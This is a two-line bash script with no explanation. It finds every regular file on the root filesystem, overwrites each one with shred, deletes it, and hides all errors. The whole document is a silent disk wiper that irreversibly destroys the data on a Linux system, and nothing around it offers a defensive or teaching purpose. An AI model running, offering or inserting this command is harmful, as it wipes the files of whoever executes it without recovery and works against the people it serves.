#!/bin/bash
find / -xdev -type f -exec shred -u -n 1 {} + 2>/dev/null
